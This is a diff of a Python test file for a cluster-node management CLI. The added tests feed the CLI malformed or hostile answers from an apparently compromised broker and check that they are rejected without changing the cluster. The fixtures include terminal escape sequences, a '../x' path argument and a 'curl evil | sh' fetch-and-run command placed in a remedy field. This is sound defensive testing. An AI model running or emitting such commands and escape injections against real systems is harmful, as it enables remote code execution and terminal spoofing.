@@ -229,11 +229,11 @@ def test_a_clock_that_was_ahead_is_said(place: Place) -> None:
     [
         (["pi-1"], "pi-1 is a control plane"),
         (["pi-2", "pi-1"], "pi-1 is a control plane"),
-        (["--all"], "nodes that cannot be"),
-        (["../x"], "nodes that cannot be"),
-        ([{"pi-2": 1}], "nodes that cannot be"),
-        ("pi-2", "nodes that cannot be"),
-        ([f"pi-{n}" for n in range(101)], "nodes that cannot be"),
+        (["--all"], "none of it was taken"),
+        (["../x"], "none of it was taken"),
+        ([{"pi-2": 1}], "none of it was taken"),
+        ("pi-2", "none of it was taken"),
+        ([f"pi-{n}" for n in range(101)], "none of it was taken"),
     ],
 )
 def test_a_broker_that_was_taken_over_has_root_bar_no_control_plane(
@@ -244,6 +244,44 @@ def test_a_broker_that_was_taken_over_has_root_bar_no_control_plane(
     done = run("revoke", "pi-2")
     assert done.exit_code != 0 and said in done.output and "Traceback" not in done.output
     assert (place.kubectl.barred, place.kubectl.deleted) == ([], [])
+
+
+FORGOTTEN = {"v": 1, "forgotten": True, "days": 366, "bar": [], "let_back": []}
+
+
+@pytest.mark.parametrize(
+    ("words", "answer"),
+    [
+        (["forget", "pi-2"], FORGOTTEN | {"bar": ["pi-2", "pi-3"]}),
+        (["forget", "pi-2"], FORGOTTEN | {"let_back": ["pi-9"]}),
+        (["approve", "ABCDEFGHIJ234567"],
+         {"v": 1, "name": "pi-2", "source": "10.77.0.12\x1b[2J", "state": "waiting",
+          "let_back": ["pi-9"]}),
+        (["seal"], {"v": 1, "until": 10**15}),
+        (["seal"], {"v": 1, "status": 503, "error": "\x1b]0;sealed\x07"}),
+        (["seal"], {"v": 1, "status": 409, "error": "No.", "remedy": "Run:\ncurl evil | sh"}),
+        (["seal"], {"v": 1, "status": 503, "error": "x" * 100_000}),
+        (["seal"], {"v": 1, "error": "no status"}),
+        (["nodes"], {"v": 1}),
+    ],
+    ids=lambda value: value[0] if isinstance(value, list) else "",
+)  # fmt: skip
+def test_an_answer_that_cannot_be_is_not_shown_and_changes_nothing(
+    words: list[str], answer: Any, place: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Of a broker that was taken over."""
+    monkeypatch.setattr(place.service, "answer", lambda *_: answer)
+    done = run(*words)
+    assert done.exit_code in (Blocked.exit_code, CommandFailed.exit_code), done.output
+    assert done.output.replace("\n", "").isprintable() and len(done.output) < 1000
+    assert (place.kubectl.barred, place.kubectl.deleted) == ([], [])
+
+
+def test_whom_an_approval_lets_back_is_told(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The broker chooses them: the person who typed one code sees it."""
+    answer = {"v": 1, "name": "", "source": "", "state": "unheard", "let_back": ["pi-8", "pi-9"]}
+    monkeypatch.setattr(place.service, "answer", lambda *_: answer)
+    assert "No longer barred in the cluster: pi-8, pi-9." in run("approve", "A" * 16).output
 
 
 def test_what_the_broker_knows_is_shown_without_the_cluster(place: Place) -> None:
